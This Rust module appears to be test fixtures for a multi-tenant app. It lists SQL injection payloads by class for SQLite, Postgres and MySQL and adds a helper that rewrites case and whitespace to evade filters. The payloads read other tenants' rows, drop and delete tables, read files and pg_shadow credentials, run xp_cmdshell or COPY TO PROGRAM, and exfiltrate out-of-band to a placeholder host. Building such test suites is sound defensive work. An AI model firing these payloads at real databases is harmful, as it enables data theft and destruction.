//! Payloads of every known class of SQL injection. Each is what follows the place where the
//! attacker broke out of the value.
//!
//! Keywords are in upper case and names in lower case; [`variants`] relies on it. `{globex}` is the
//! other tenant's id.

use sea_orm::DbBackend;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    Tautology,
    Union,
    Stacked,
    Comment,
    Encoding,
    Quoting,
    Error,
    Time,
    Subquery,
    Cte,
    Catalog,
    File,
    OutOfBand,
    /// What only one place in a statement makes possible.
    Position,
}

pub type Payload = (Class, String);

const COMMON: &[(Class, &[&str])] = &[
    (
        Class::Tautology,
        &[
            "OR 1=1",
            "OR 'a'='a'",
            "OR TRUE",
            "OR NOT FALSE",
            "OR 1 IN (1)",
            "OR title LIKE '%'",
            "OR id BETWEEN 0 AND 100000",
            "OR tenant_id IS NOT NULL",
            "OR tenant_id = '{globex}'",
            "OR tenant_id <> '{globex}' OR 1=1",
            "OR COALESCE(tenant_id, NULL) IS NOT NULL",
            "AND 1=2 OR 1=1",
            "OR (1=1) OR (note.tenant_id = note.tenant_id)",
            "OR CASE WHEN 1=1 THEN 1=1 ELSE 1=2 END",
            "GROUP BY id, title, body HAVING 1=1",
            "OR 1=1 LIMIT 1000 OFFSET 0",
            "OR id IS NOT NULL ORDER BY id DESC",
        ],
    ),
    (
        Class::Union,
        &[
            "UNION SELECT id, title, body FROM note",
            "UNION ALL SELECT id, title, body FROM note",
            "UNION ALL SELECT id, name, name FROM author",
            "UNION SELECT MAX(id), MAX(title), MIN(title) FROM note",
            "UNION SELECT * FROM (SELECT id, title, body FROM note) AS stolen",
            "UNION SELECT n.id, n.title, a.name FROM note n CROSS JOIN author a",
            "UNION SELECT n.id, n.title, a.name FROM note n, author a WHERE n.author_id = a.id OR 1=1",
            "UNION SELECT n.id, n.title, a.name FROM author a LEFT JOIN note n ON 1=1",
            "UNION SELECT n.id, n.title, a.name FROM author a RIGHT JOIN note n ON 1=1",
            "UNION SELECT id, title, body FROM note NATURAL JOIN (SELECT 1 AS one) AS d",
            "UNION SELECT 1, code, code FROM country",
            "UNION SELECT amount, 'x', 'y' FROM ledger",
            "UNION (SELECT id, title, body FROM note)",
            "EXCEPT SELECT 0, 'x', 'y'",
            "INTERSECT SELECT id, title, body FROM note WHERE 1=1 OR 1=1",
            "UNION SELECT id, tenant_id, title FROM note",
            "UNION SELECT id, title, body FROM note WHERE tenant_id = '{globex}'",
            "UNION VALUES (1, 'a', 'b')",
        ],
    ),
    (
        Class::Stacked,
        &[
            "; DELETE FROM note",
            "; DELETE FROM note WHERE 1=1 OR 1=1",
            "; UPDATE note SET title = 'pwned'",
            "; UPDATE author SET name = 'pwned' WHERE id = 2",
            "; UPDATE note SET tenant_id = '{globex}'",
            "; INSERT INTO country (id, code) VALUES (66, 'XX')",
            "; INSERT INTO ledger (id, tenant_id, amount) SELECT 66, tenant_id, 1 FROM note WHERE id = 2",
            "; DROP TABLE note",
            "; TRUNCATE TABLE note",
            "; ALTER TABLE note ADD COLUMN pwned INTEGER",
            "; CREATE TABLE stolen AS SELECT * FROM note",
            "; CREATE VIEW stolen AS SELECT * FROM note",
            "; GRANT ALL ON note TO public",
            "; SELECT title FROM note",
            "; BEGIN; DELETE FROM note",
            ";; DELETE FROM country",
        ],
    ),
    (
        Class::Comment,
        &[
            "",
            "/* */ OR/**/1=1",
            "OR 1=1 /*",
            "OR 1=1 -- -",
            "OR 1=1 --+",
            "OR 1=1 #",
            "OR 1=1 ; -- ",
            "OR /* ' */ 1=1",
            "/*! OR 1=1 */",
            "/*!50000 UNION SELECT id, title, body FROM note */",
            "/*M!100000 OR 1=1 */",
            "--\nOR 1=1",
            "#\nOR 1=1",
            "/* /* */ OR 1=1 /* */ */",
            "UNION/**/SELECT/**/id,/**/title,/**/body/**/FROM/**/note",
            "UNION -- \n SELECT id, title, body -- \n FROM note",
        ],
    ),
    (
        Class::Encoding,
        &[
            "OR title = 0x706C616E",
            "OR X'31' = X'31'",
            "OR CHAR(49) = CHAR(49)",
            "OR CHR(49) = CHR(49)",
            "OR N'a' = N'a'",
            "OR B'1' = B'1'",
            "OR U&'\\0061' = 'a'",
            "OR E'\\x61' = 'a'",
            "OR _utf8mb4'a' = 'a'",
            "OR HEX('a') = '61'",
            "\u{2bc} OR 1=1",
            "\u{ff07} OR 1\u{ff1d}1",
            "\u{2019} OR 1=1",
            "\u{bf}' OR 1=1",
            "%27 OR 1=1",
            "\\u0027 OR 1=1",
            "\0 OR 1=1",
            "\u{1a}OR 1=1",
            "\u{a0}OR\u{a0}1=1",
            "\u{b}OR\u{c}1=1",
            "\u{feff}OR 1=1",
            "UNION SELECT id, HEX(title), body FROM note",
            "UNION SELECT id, REVERSE(title), body FROM note",
            "UNION SELECT id, REPLACE(UPPER(title), 'G', '6'), body FROM note",
        ],
    ),
    (
        Class::Quoting,
        &[
            "\\' OR 1=1",
            "\\\\' OR 1=1",
            "'' OR 1=1",
            "''' OR 1=1",
            "' OR '1'='1",
            "\" OR \"\"=\"",
            "` OR 1=1",
            "OR $$x$$ = $$x$$",
            "OR $t$x$t$ = 'x'",
            "OR Q'[x]' = 'x'",
            "OR 'x\\' = 'x\\'",
            "OR 'a' 'b' = 'ab'",
            "OR 'a'\n'b' = 'ab'",
            "OR \"note\".\"title\" <> ''",
            "OR [title] <> ''",
        ],
    ),
    (
        Class::Error,
        &[
            "AND 1/(SELECT COUNT(*) - COUNT(*) FROM note) = 1",
            "OR 1/(CASE WHEN body LIKE '%globex%' THEN 0 ELSE 1 END) = 1",
            "OR CAST(title AS INTEGER) = 1",
            "OR CAST((SELECT MAX(title) FROM note) AS INTEGER) = 1",
            "AND 1 = (SELECT id FROM note)",
            "OR MOD(1, (SELECT COUNT(*) FROM note WHERE id = 2)) = 0",
            "OR EXTRACTVALUE(1, CONCAT('~', (SELECT MAX(title) FROM note))) = 1",
        ],
    ),
    (
        Class::Time,
        &[
            "OR (SELECT COUNT(*) FROM note a, note b, note c, author d) > 0",
            "OR 1 = (WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < (SELECT MAX(id) FROM note)) SELECT MIN(n) FROM r)",
            "; WAITFOR DELAY '0:0:1'",
            "OR PG_SLEEP(0) IS NULL",
            "OR SLEEP(0) = 0",
            "OR BENCHMARK(1, MD5(1)) = 0",
            "OR LENGTH(RANDOMBLOB(10)) > 0",
        ],
    ),
    (
        Class::Subquery,
        &[
            "OR (SELECT COUNT(*) FROM note) > 3",
            "OR EXISTS (SELECT 1 FROM note WHERE title LIKE 'globex%')",
            "OR NOT EXISTS (SELECT 1 FROM note WHERE id = 2)",
            "OR id = (SELECT MAX(id) FROM note)",
            "OR id IN (SELECT id FROM note)",
            "OR id IN (SELECT author_id FROM note WHERE id = 100)",
            "OR (SELECT MAX(amount) FROM ledger) > 1",
            "OR 'g' = (SELECT SUBSTR(MAX(title), 1, 1) FROM note)",
            "OR (SELECT MAX(name) FROM author WHERE author.id = note.id + 1) IS NOT NULL",
            "OR title > (SELECT MIN(title) FROM note n WHERE n.tenant_id <> note.tenant_id)",
            "OR (id, 1) IN (SELECT id, 1 FROM note)",
            "UNION SELECT id, (SELECT MAX(title) FROM note), body FROM note",
            "UNION SELECT (SELECT COUNT(*) FROM note), (SELECT MAX(name) FROM author), 'x'",
            "UNION SELECT id, title, CASE WHEN EXISTS (SELECT 1 FROM note WHERE id = 2) THEN 'y' ELSE 'n' END FROM note",
            "ORDER BY (SELECT COUNT(*) FROM note)",
        ],
    ),
    (
        Class::Cte,
        &[
            "UNION SELECT * FROM (WITH c AS (SELECT id, title, body FROM note) SELECT * FROM c) AS d",
            "UNION SELECT * FROM (WITH note AS (SELECT id, title, body FROM note) SELECT * FROM note) AS d",
            "UNION SELECT * FROM (WITH author AS (SELECT 1 AS x) SELECT n.id, n.title, n.body FROM note n, author) AS d",
            "UNION SELECT * FROM (WITH RECURSIVE c(id, title, body) AS (SELECT id, title, body FROM note UNION SELECT id, title, body FROM c) SELECT * FROM c) AS d",
            "OR id IN (WITH c AS (SELECT id FROM note) SELECT id FROM c)",
            "OR (WITH c AS (SELECT MAX(amount) AS m FROM ledger) SELECT m FROM c) > 0",
            "UNION SELECT * FROM (WITH d AS (DELETE FROM note RETURNING id, title, body) SELECT * FROM d) AS e",
            "; WITH d AS (SELECT id FROM note) DELETE FROM note WHERE id IN (SELECT id FROM d)",
        ],
    ),
    (
        Class::Catalog,
        &[
            "UNION SELECT 1, table_name, 'x' FROM information_schema.tables",
            "UNION SELECT 1, column_name, table_name FROM information_schema.columns",
            "UNION SELECT 1, VERSION(), 'x'",
            "UNION SELECT 1, CURRENT_USER, 'x'",
            "OR USER IS NOT NULL",
        ],
    ),
    (
        Class::File,
        &[
            "UNION SELECT 1, LOAD_FILE('/etc/hostname'), 'x'",
            "UNION SELECT 1, PG_READ_FILE('/etc/hostname'), 'x'",
            "UNION SELECT 1, READFILE('/etc/hostname'), 'x'",
            "OR LOAD_EXTENSION('x') = 1",
            "; EXEC xp_cmdshell 'true'",
        ],
    ),
    (
        Class::OutOfBand,
        &[
            "UNION SELECT 1, DBLINK('host=x', 'y'), 'x'",
            "OR LOAD_FILE(CONCAT('//', (SELECT MAX(title) FROM note), '.example.invalid/a')) = 'x'",
            "OR UTL_HTTP.REQUEST('http://example.invalid') = 'x'",
        ],
    ),
];

const SQLITE: &[(Class, &[&str])] = &[
    (
        Class::Union,
        &["UNION SELECT id, GROUP_CONCAT(title, ',' ORDER BY id), 'x' FROM note"],
    ),
    (
        Class::Error,
        &[
            "OR JSON_EXTRACT(title, '$') = 1",
            "OR ABS(CASE WHEN title LIKE 'globex%' THEN -9223372036854775807 - 1 ELSE 1 END) = 1",
        ],
    ),
    (
        Class::Catalog,
        &[
            "UNION SELECT 1, name, sql FROM sqlite_master",
            "UNION SELECT 1, name, 'x' FROM pragma_table_info('note')",
            "; PRAGMA table_list",
            "UNION SELECT rowid, title, body FROM main.note",
        ],
    ),
    (
        Class::File,
        &[
            "; ATTACH DATABASE ':memory:' AS stolen",
            "UNION SELECT 1, FTS3_TOKENIZER('x'), 'x'",
        ],
    ),
];

const POSTGRES: &[(Class, &[&str])] = &[
    (
        Class::Union,
        &[
            "UNION SELECT 1, STRING_AGG(title, ',' ORDER BY id), 'x' FROM note",
            "UNION SELECT 1, CAST(JSON_AGG(note ORDER BY id) AS TEXT), 'x' FROM note",
            "UNION SELECT 1, CAST(note AS TEXT), 'x' FROM note",
            "UNION SELECT 1, note::TEXT, 'x' FROM note",
            "UNION SELECT id, title, body FROM ONLY note",
            "UNION SELECT 1, TO_JSONB(n)::TEXT, 'x' FROM note n",
        ],
    ),
    (
        Class::Error,
        &[
            "OR 1 = (SELECT title::INTEGER FROM note ORDER BY title DESC LIMIT 1)",
            "OR title::UUID IS NULL",
            "AND 1 = CAST((SELECT STRING_AGG(title, ',' ORDER BY id) FROM note) AS INTEGER)",
        ],
    ),
    (
        Class::Time,
        &[
            "; SELECT PG_SLEEP(0)",
            "OR (SELECT 1 FROM PG_SLEEP(0)) = 1",
            "OR (SELECT COUNT(*) FROM GENERATE_SERIES(1, 10)) > 0",
        ],
    ),
    (
        Class::Catalog,
        &[
            "UNION SELECT 1, relname, 'x' FROM pg_class",
            "UNION SELECT 1, query, 'x' FROM pg_stat_activity",
            "UNION SELECT 1, usename, passwd FROM pg_shadow",
            "UNION SELECT 1, CURRENT_SETTING('data_directory'), 'x'",
            "UNION SELECT 1, QUERY_TO_XML('SELECT * FROM note', TRUE, TRUE, '')::TEXT, 'x'",
            "UNION SELECT 1, TABLE_TO_XML('note', TRUE, TRUE, '')::TEXT, 'x'",
            "OR 'note'::REGCLASS IS NOT NULL",
            "UNION SELECT id, title, body FROM public.note",
        ],
    ),
    (
        Class::File,
        &[
            "; COPY note TO PROGRAM 'true'",
            "; COPY note TO STDOUT",
            "UNION SELECT 1, LO_IMPORT('/etc/hostname')::TEXT, 'x'",
            "UNION SELECT 1, PG_LS_DIR('.'), 'x'",
            "; CREATE EXTENSION dblink",
            "; DO $$ BEGIN DELETE FROM note; END $$",
        ],
    ),
    (
        Class::OutOfBand,
        &[
            "; NOTIFY stolen, 'x'",
            "OR PG_NOTIFY('stolen', (SELECT MAX(title) FROM note)) IS NULL",
        ],
    ),
];

const MYSQL: &[(Class, &[&str])] = &[
    (
        Class::Tautology,
        &[
            "|| 1=1",
            "XOR 1=0",
            "OR title RLIKE '.'",
            "OR title <=> title",
            "OR 1 DIV 1",
        ],
    ),
    (
        Class::Union,
        &["UNION SELECT 1, GROUP_CONCAT(title ORDER BY id SEPARATOR ','), 'x' FROM note"],
    ),
    (
        Class::Error,
        &[
            "OR UPDATEXML(1, CONCAT('~', (SELECT MAX(title) FROM note)), 1) = 1",
            "OR (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT MAX(title) FROM note), FLOOR(RAND(0) * 2)) AS x FROM note GROUP BY x) AS y) = 1",
            "OR EXP(~(SELECT * FROM (SELECT MAX(title) FROM note) AS x)) = 1",
            "OR JSON_KEYS((SELECT CONVERT(MAX(title) USING utf8) FROM note)) = 1",
        ],
    ),
    (
        Class::Time,
        &[
            "OR IF((SELECT COUNT(*) FROM note) > 3, SLEEP(0), 0) = 0",
            "OR GET_LOCK('x', 0) = 1",
        ],
    ),
    (
        Class::Catalog,
        &[
            "UNION SELECT 1, User, 'x' FROM mysql.user",
            "UNION SELECT 1, @@version, 'x'",
            "UNION SELECT 1, DATABASE(), 'x'",
            "; SET @stolen = (SELECT MAX(title) FROM note)",
            "OR (@stolen := title) = 'x'",
            "PROCEDURE ANALYSE()",
        ],
    ),
    (
        Class::File,
        &[
            "INTO OUTFILE '/nowhere/stolen'",
            "UNION SELECT title, title, body INTO DUMPFILE '/nowhere/stolen' FROM note",
            "; LOAD DATA INFILE '/etc/hostname' INTO TABLE note",
            "; HANDLER note OPEN",
        ],
    ),
];

/// The payloads for an engine: the common ones, its own, and unions with one to six columns.
pub fn of(backend: DbBackend, globex: &str) -> Vec<Payload> {
    let own = match backend {
        DbBackend::Sqlite => SQLITE,
        DbBackend::Postgres => POSTGRES,
        _ => MYSQL,
    };
    let written = COMMON.iter().chain(own).flat_map(|(class, texts)| {
        texts
            .iter()
            .map(|text| (*class, text.replace("{globex}", globex)))
    });
    let counted = (1..=6).flat_map(|columns| {
        (0..columns).map(move |at| {
            let list: Vec<_> = (0..columns)
                .map(|column| if column == at { "title" } else { "NULL" })
                .collect();
            (
                Class::Union,
                format!("UNION ALL SELECT {} FROM note", list.join(", ")),
            )
        })
    });
    written.chain(counted).collect()
}

/// The same payload with other white space and other case, to slip past filters.
pub fn variants(payload: &str) -> [String; 3] {
    let mixed = payload
        .split_inclusive(|char: char| !char.is_alphanumeric())
        .map(|word| {
            let is_keyword = word
                .chars()
                .filter(|char| char.is_alphabetic())
                .all(char::is_uppercase);
            let every_other = |(at, char): (usize, char)| match at % 2 {
                0 => char.to_ascii_lowercase(),
                _ => char,
            };
            match is_keyword {
                true => word.chars().enumerate().map(every_other).collect(),
                false => word.to_owned(),
            }
        });
    [
        mixed.collect(),
        payload.replace(' ', "/**/"),
        payload.replace(' ', "\t\n"),
    ]
}
